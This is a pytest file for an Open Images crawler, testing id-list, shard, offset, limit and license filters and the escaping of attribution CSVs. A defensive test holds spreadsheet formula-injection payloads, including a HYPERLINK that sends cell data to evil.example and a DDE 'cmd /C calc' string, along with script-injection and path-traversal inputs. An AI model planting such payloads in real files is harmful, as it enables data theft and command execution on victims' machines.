"""Selection by id list, exclusion, shard, offset and limit: the filters on
their own and combined in real crawls."""

from __future__ import annotations

import csv
import hashlib
import subprocess
from pathlib import Path

import pytest

from openimages_crawler.dataset.idset import IdSet
from openimages_crawler.dataset.selection import (
    IdList,
    Selection,
    SelectionError,
    Shard,
    license_name,
    parse_licenses,
    read_exclusions,
    read_id_list,
)
from openimages_crawler.outputs.attribution import (
    ATTRIBUTION_COLUMNS,
    ATTRIBUTION_CSV,
    ATTRIBUTION_TEXT,
    write_attribution,
)
from tests.conftest import ROOT, Served, count_rows, crawl_command, outcomes, run_crawl


def ids(count: int) -> list[str]:
    return [hashlib.sha1(str(i).encode()).hexdigest()[:16] for i in range(count)]


def rows(image_ids: list[str], subset: str = "train") -> list[tuple[dict[str, str], None, str]]:
    return [({"ImageID": image_id, "Subset": subset}, None, "") for image_id in image_ids]


def test_shards_cover_every_row_exactly_once() -> None:
    image_ids = ids(3000) + ["", "not-hex_ID", "ünïcode"]
    for count in (1, 2, 3, 7):
        owners = [[k for k in range(1, count + 1) if Shard(k, count).holds(i)] for i in image_ids]
        assert all(len(owner) == 1 for owner in owners)
        sizes = [sum(owner == [k] for owner in owners) for k in range(1, count + 1)]
        assert min(sizes) > 0.8 * len(image_ids) / count


@pytest.mark.parametrize("text", ["0/3", "4/3", "a/b", "3", "1/0", ""])
def test_bad_shards_are_refused(text: str) -> None:
    with pytest.raises(SelectionError):
        Shard.parse(text)


def test_id_list_format(tmp_path: Path) -> None:
    first, second, third = ids(3)
    path = tmp_path / "ids.txt"
    path.write_text(f"# my set\n{first}\n\ntrain/{second}\r\nvalidation/{third}\n")
    listed = read_id_list(path)
    assert len(listed) == 3
    assert listed.holds(first, "test") and listed.holds(second, "train")
    assert not listed.holds(second, "validation") and not listed.holds(third, "train")
    path.write_text(f"{first}\n../../etc/passwd\n")
    with pytest.raises(SelectionError, match=r"ids.txt:2: "):
        read_id_list(path)


def test_exclusions_from_an_annotations_csv_or_a_list(tmp_path: Path) -> None:
    first, second, third = ids(3)
    annotations = tmp_path / "boxes.csv"
    annotations.write_text(
        "ImageID,Source,LabelName,Confidence\n"
        f"{first},xclick,/m/01g317,1\n{first},xclick,/m/0199g,1\n{second},xclick,/m/01g317,1\n"
    )
    excluded = read_exclusions(annotations)
    assert excluded.holds(first, "train") and excluded.holds(second, "x")
    assert not excluded.holds(third, "train")
    listed = tmp_path / "list.txt"
    listed.write_text(f"{third}\n")
    assert read_exclusions(listed).holds(third, "train")
    with pytest.raises(SelectionError, match="cannot read"):
        read_exclusions(tmp_path / "missing.csv")


def test_filters_apply_in_order() -> None:
    image_ids = ids(100)
    chosen = IdList(anywhere=IdSet(image_ids[:60]))
    excluded = IdList(anywhere=IdSet(image_ids[:10]))
    selection = Selection(subset="train", ids=chosen, exclude=excluded, offset=5, limit=20)
    taken = [f["ImageID"] for f, _, _ in selection.rows(rows(image_ids) + rows(image_ids[:60], "test"))]
    assert taken == image_ids[15:35]
    shard_one = Selection(shard=Shard(1, 2))
    shard_two = Selection(shard=Shard(2, 2))
    one = [f["ImageID"] for f, _, _ in shard_one.rows(rows(image_ids))]
    two = [f["ImageID"] for f, _, _ in shard_two.rows(rows(image_ids))]
    assert sorted(one + two) == sorted(image_ids) and not set(one) & set(two)


@pytest.mark.e2e
def test_crawls_by_shard_ids_exclude_offset_limit(clean_mirror: Served, tmp_path: Path) -> None:
    every = [row.fields["ImageID"] for row in clean_mirror.mirror.rows]
    # Two shards into one store: together every row once, no overlap.
    store = tmp_path / "store"
    run_crawl(clean_mirror.metadata, store, shard="1/2")
    first = set(outcomes(store))
    run_crawl(clean_mirror.metadata, store, shard="2/2")
    final = outcomes(store)
    assert set(final) == set(every) and all(v == ["success"] for v in final.values())
    assert 0 < len(first) < len(every)
    # An id list (one id split-qualified), minus an exclusion CSV, skipping one, keeping two.
    id_file = tmp_path / "ids.txt"
    id_file.write_text("\n".join([every[0], f"train/{every[1]}", f"validation/{every[2]}", *every[3:6]]))
    exclude_file = tmp_path / "exclude.csv"
    exclude_file.write_text(f"ImageID,LabelName\n{every[3]},/m/x\n")
    selected = tmp_path / "selected"
    run_crawl(clean_mirror.metadata, selected, ids=str(id_file), exclude=str(exclude_file),
              offset="1", limit="2")
    assert set(outcomes(selected)) == {every[1], every[4]}
    assert count_rows(selected / "train" / "images-success.csv") == 2


@pytest.mark.e2e
def test_bad_selection_arguments_stop_before_the_crawl(clean_mirror: Served, tmp_path: Path) -> None:
    for args, message in (({"shard": "3/2"}, "K must be between 1 and N"),
                          ({"ids": str(tmp_path / "none.txt")}, "cannot read"),
                          ({"offset": "-1"}, "must be 0 or more")):
        done = subprocess.run(crawl_command(clean_mirror.metadata, tmp_path / "s", **args),
                              cwd=ROOT, capture_output=True, text=True, timeout=60)
        assert done.returncode != 0 and message in done.stderr, done.stderr[-1000:]
    assert not (tmp_path / "s").exists()


def test_licenses_by_creative_commons_short_name_whatever_the_version() -> None:
    assert license_name("https://creativecommons.org/licenses/by/2.0/") == "by"
    assert license_name("http://creativecommons.org/licenses/by-nc-sa/2.0/deed.en") == "by-nc-sa"
    assert license_name(" https://creativecommons.org/licenses/BY-SA/4.0 ") == "by-sa"
    assert license_name("https://creativecommons.org/publicdomain/zero/1.0/") == "cc0"
    assert license_name("https://creativecommons.org/publicdomain/mark/1.0/") == "pdm"
    for other in ("", "https://www.flickr.com/commons/usage/", "https://creativecommons.org/licenses/by-xx/2.0/",
                  "https://evil.example/creativecommons.org/licenses/by/2.0/"):
        assert license_name(other) == ""
    assert parse_licenses(" by , BY-SA ") == {"by", "by-sa"}
    with pytest.raises(SelectionError, match="among by, by-sa"):
        parse_licenses("by,cc-by")
    selection = Selection(licenses=frozenset({"by-sa"}))
    licensed = [({"ImageID": image_id, "License": f"https://creativecommons.org/licenses/{name}/2.0/"}, None, "")
                for image_id, name in zip(ids(3), ("by", "by-sa", "by-nc"), strict=True)]
    assert [record[0]["ImageID"] for record in selection.rows(licensed)] == [ids(3)[1]]
    assert not Selection(licenses=frozenset({"by"})).takes({"ImageID": ids(1)[0]})  # no License: not kept


def test_attribution_lists_every_success_row_readably(tmp_path: Path) -> None:
    success = tmp_path / "train" / "images-success.csv"
    success.parent.mkdir()
    success.write_text('ImageID,Title,Author,License,OriginalURL\n'
                       'aaaaaaaaaaaaaaaa,"O&#x27;Neil &amp; friends, ""at home""",A. N. Other,'
                       'https://creativecommons.org/licenses/by/2.0/,https://x/a.jpg\n'
                       'bbbbbbbbbbbbbbbb,"Line one\nline two",,https://creativecommons.org/licenses/by-sa/2.0/,'
                       'https://x/b.jpg\n')
    write_attribution(success)
    with open(tmp_path / "train" / ATTRIBUTION_CSV, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [list(row) for row in rows[:1]] == [list(ATTRIBUTION_COLUMNS)]
    assert rows[0]["Title"] == 'O\'Neil & friends, "at home"' and rows[0]["Author"] == "A. N. Other"
    assert rows[1]["Title"] == "Line one\nline two" and rows[1]["OriginalLandingURL"] == ""
    assert "Credit the author" in (tmp_path / "train" / "ATTRIBUTION.md").read_text()
    assert sorted(path.name for path in (tmp_path / "train").iterdir()) == [
        "ATTRIBUTION.csv", "ATTRIBUTION.md", "images-success.csv"]  # no temporary file left


def test_attribution_cells_a_spreadsheet_would_run_stay_text_and_no_row_reaches_the_notes(tmp_path: Path) -> None:
    """Titles, names and URLs are anyone's metadata (issue 24): a would-be formula gets a
    leading apostrophe, also one that an HTML entity spells; the rest is kept as it was."""
    hostile = {  # a cell as the metadata has it -> as ATTRIBUTION.csv must hold it
        '=HYPERLINK("https://evil.example/?"&A1,"click")': '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
        "&#61;1+1": "'=1+1",
        "+SUM(A1:A9)": "'+SUM(A1:A9)",
        "-2+3": "'-2+3",
        "@SUM(A1)": "'@SUM(A1)",
        "\t=1": "'\t=1",
        "&#13;=1": "'\r=1",
        "\uff1d1+1": "'\uff1d1+1",
        "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
        "<script>alert(1)</script>](javascript:alert(1))": "<script>alert(1)</script>](javascript:alert(1))",
        "a | b\nc | d": "a | b\nc | d",
        "a title\r=HYPERLINK(1)": "a title\r=HYPERLINK(1)",  # one cell, not a second row
    }
    success = tmp_path / "train" / "images-success.csv"
    success.parent.mkdir()
    with open(success, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["ImageID", "Title", "Author", "AuthorProfileURL", "License", "OriginalLandingURL"])
        for image_id, cell in zip(ids(len(hostile)), hostile, strict=True):
            writer.writerow([image_id, cell, cell, cell, cell, cell])
    write_attribution(success)
    with open(tmp_path / "train" / ATTRIBUTION_CSV, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row, (cell, kept) in zip(rows, hostile.items(), strict=True):
        assert row["Title"] == row["Author"] == kept, cell
        assert row["AuthorProfileURL"] == row["License"] == row["OriginalLandingURL"] == (  # not unescaped
            kept if not cell.startswith("&#") else cell)
    assert (tmp_path / "train" / "ATTRIBUTION.md").read_text(encoding="utf-8") == ATTRIBUTION_TEXT


@pytest.mark.e2e
def test_a_license_filter_crawls_only_those_and_attribution_follows(clean_mirror: Served, tmp_path: Path) -> None:
    store = tmp_path / "store"
    run_crawl(clean_mirror.metadata, store, licenses="by-sa,by-nc")
    rows = {row.fields["ImageID"]: row.fields for row in clean_mirror.mirror.rows}
    wanted = {image_id for image_id, fields in rows.items()
              if "/by-sa/" in fields["License"] or "/by-nc/" in fields["License"]}
    assert 0 < len(wanted) < len(rows)
    assert set(outcomes(store)) == wanted
    with open(store / "train" / "images-success.csv", newline="", encoding="utf-8") as handle:
        succeeded = {row["ImageID"]: row for row in csv.DictReader(handle)}
    with open(store / "train" / ATTRIBUTION_CSV, newline="", encoding="utf-8") as handle:
        credited = {row["ImageID"]: row for row in csv.DictReader(handle)}
    assert set(credited) == set(succeeded)
    for image_id, row in credited.items():
        assert row["Author"] == rows[image_id]["Author"] and row["License"] == rows[image_id]["License"]
        assert row["OriginalLandingURL"] == rows[image_id]["OriginalLandingURL"]
    done = subprocess.run(crawl_command(clean_mirror.metadata, tmp_path / "s", licenses="cc-by"),
                          cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and "Creative Commons short names" in done.stderr
